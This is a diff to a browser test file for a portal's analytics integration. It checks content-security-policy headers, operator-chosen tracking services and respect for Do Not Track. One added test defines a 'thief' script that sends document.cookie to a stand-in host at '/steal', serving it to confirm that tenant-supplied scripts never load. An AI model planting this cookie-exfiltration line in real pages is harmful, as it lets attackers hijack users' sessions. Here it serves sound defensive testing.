@@ -4,11 +4,17 @@ import { afterAll, beforeAll, describe, expect, vi } from "vitest";
 import { portal, test, widths } from "./harness.ts";
 
 const counted = join(portal.tenantsDir, "2098");
+const flavour = join(portal.tenantsDir, "flavours", "counted");
+const inherits = join(portal.tenantsDir, "2097");
 
 beforeAll(async () => {
   mkdirSync(counted, { recursive: true });
   const info = { isEnableStatistics: true, statisticsProvider: "matomo", statisticsCode: "7", statisticsHost: "stats.school.example" };
   writeFileSync(join(counted, "site.json"), JSON.stringify({ version: 1, info }));
+  // What a flavour says is the operators' word.
+  for (const folder of [flavour, inherits]) mkdirSync(folder, { recursive: true });
+  writeFileSync(join(flavour, "site.json"), JSON.stringify({ version: 1, info }));
+  writeFileSync(join(inherits, "site.json"), JSON.stringify({ version: 1, extends: "counted" }));
   mkdirSync(join(counted, "layouts"));
   const blocks = {
     footerService: null,
@@ -18,8 +24,9 @@ beforeAll(async () => {
   };
   writeFileSync(join(counted, "layouts", "default.json"), JSON.stringify({ version: 1, blocks }));
   await vi.waitFor(async () => expect((await fetch(`${portal.url}/org/2098`)).status).toBe(200), { timeout: 60_000, interval: 100 });
+  await vi.waitFor(async () => expect((await fetch(`${portal.url}/org/2097`)).headers.get("content-security-policy")).toContain("stats.school.example"), { timeout: 60_000, interval: 100 });
 });
-afterAll(() => rmSync(counted, { recursive: true, force: true }));
+afterAll(() => [inherits, flavour, counted].forEach((folder) => rmSync(folder, { recursive: true, force: true })));
 
 /** What shows of the shell at an address (specification.md §2, layouts). */
 interface Shown {
@@ -176,20 +183,54 @@ describe("statistics", () => {
     expect((await fetch(`${portal.url}/list`)).headers.get("content-security-policy")).toContain("connect-src 'self';");
   });
 
-  test("come by the service that the site names, tell of each page by its path, and widen the policy for that service only", async ({ visit, browser }) => {
+  /** A service that, where its script runs, sends away what it finds. */
+  const thief = 'window.stolen = document.cookie; new Image().src = "https://stats.school.example/steal?c=" + encodeURIComponent(document.cookie); fetch("https://stats.school.example/steal").catch(() => {});';
+  const seen = (requests: readonly string[]) => requests.filter((one) => one === "POST /_lectern/seen").length;
+
+  test("of an organisation bring nothing of its service into a page on the platform's host: no request, no script, though an operator looks", async ({ visit, browser }) => {
+    const context = await browser.newContext({ locale: "zh-CN" });
+    const asked: string[] = [];
+    await context.route("**/*", (route) => {
+      const url = route.request().url();
+      if (url.startsWith(portal.url) || url.startsWith("data:")) return route.continue();
+      asked.push(url);
+      return route.fulfill({ contentType: "text/javascript", body: thief });
+    });
+    const { page: login } = await visit("/login?t=login", { context });
+    await signIn(login, "13800000009");
+    await login.waitForURL((url) => !url.pathname.startsWith("/login"));
+    const { page, requests } = await visit("/org/2098/list?sort=new", { context });
+    const told: string[] = [];
+    page.on("request", (request) => {
+      if (request.url().endsWith("/_lectern/seen")) told.push(`${(JSON.parse(request.postData() ?? "{}") as { path: string }).path} ${request.headers()["cookie"] ?? "without a cookie"}`);
+    });
+    // The first is told in an idle moment, by when all of the page has come.
+    await expect.poll(() => seen(requests), { timeout: 20_000 }).toBe(1);
+    await page.evaluate(() => document.querySelector<HTMLElement>('header a[href="/org/2098/live"]')!.click());
+    await page.waitForURL("**/org/2098/live");
+    await expect.poll(() => seen(requests)).toBe(2);
+    expect(told.at(-1)).toBe("/org/2098/live without a cookie");
+    expect(asked).toEqual([]);
+    expect(await page.evaluate(() => [(window as { stolen?: string }).stolen, document.querySelectorAll('script[src^="http"]').length])).toEqual([undefined, 0]);
+    const policy = (await fetch(`${portal.url}/org/2098/list`)).headers.get("content-security-policy") ?? "";
+    expect(policy).toContain("connect-src 'self';");
+    expect(policy).not.toContain("school.example");
+  });
+
+  test("of the operators' choice come by the service, tell of each page by its path, and widen the policy for that service only", async ({ visit, browser }) => {
     const context = await browser.newContext({ locale: "zh-CN" });
     const asked: string[] = [];
     await context.route(service, (route) => {
       asked.push(route.request().url());
       return route.fulfill({ contentType: "text/javascript", body: "" });
     });
-    const { page } = await visit("/org/2098/list?sort=new", { context });
+    const { page } = await visit("/org/2097/list?sort=new", { context });
     await expect.poll(() => asked).toEqual(["https://stats.school.example/matomo.js"]);
-    await page.evaluate(() => document.querySelector<HTMLElement>('header a[href="/org/2098/live"]')!.click());
-    await page.waitForURL("**/org/2098/live");
+    await page.evaluate(() => document.querySelector<HTMLElement>('header a[href="/org/2097/live"]')!.click());
+    await page.waitForURL("**/org/2097/live");
     const told = () => page.evaluate(() => (window as unknown as { _paq: unknown[][] })._paq.filter(([call]) => call === "setCustomUrl").map(([, url]) => new URL(url as string).pathname + new URL(url as string).search));
-    await expect.poll(told).toEqual(["/org/2098/list", "/org/2098/live"]);
-    const policy = (await fetch(`${portal.url}/org/2098/list`)).headers.get("content-security-policy") ?? "";
+    await expect.poll(told).toEqual(["/org/2097/list", "/org/2097/live"]);
+    const policy = (await fetch(`${portal.url}/org/2097/list`)).headers.get("content-security-policy") ?? "";
     expect(policy).toContain("connect-src 'self' https://stats.school.example;");
     expect(policy).not.toMatch(/script-src[^;]*(https:|unsafe)/);
   });
@@ -197,15 +238,13 @@ describe("statistics", () => {
   for (const name of ["doNotTrack", "globalPrivacyControl"]) {
     test(`leave alone who sends ${name}`, async ({ visit, browser }) => {
       const context = await browser.newContext({ locale: "zh-CN" });
-      const asked: string[] = [];
-      await context.route(service, (route) => {
-        asked.push(route.request().url());
-        return route.fulfill({ contentType: "text/javascript", body: "" });
-      });
       await context.addInitScript((property) => Object.defineProperty(Navigator.prototype, property, { get: () => (property === "doNotTrack" ? "1" : true) }), name);
-      const { page } = await visit("/org/2098", { context });
-      await page.waitForTimeout(6000);
-      expect(asked).toEqual([]);
+      const { page, requests } = await visit("/org/2098", { context });
+      // Idle moments come in the order in which they were asked for.
+      await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve, { timeout: 8000 })));
+      const counted = await visit("/org/2098");
+      await expect.poll(() => seen(counted.requests), { timeout: 20_000 }).toBe(1);
+      expect(seen(requests)).toBe(0);
     });
   }
 });
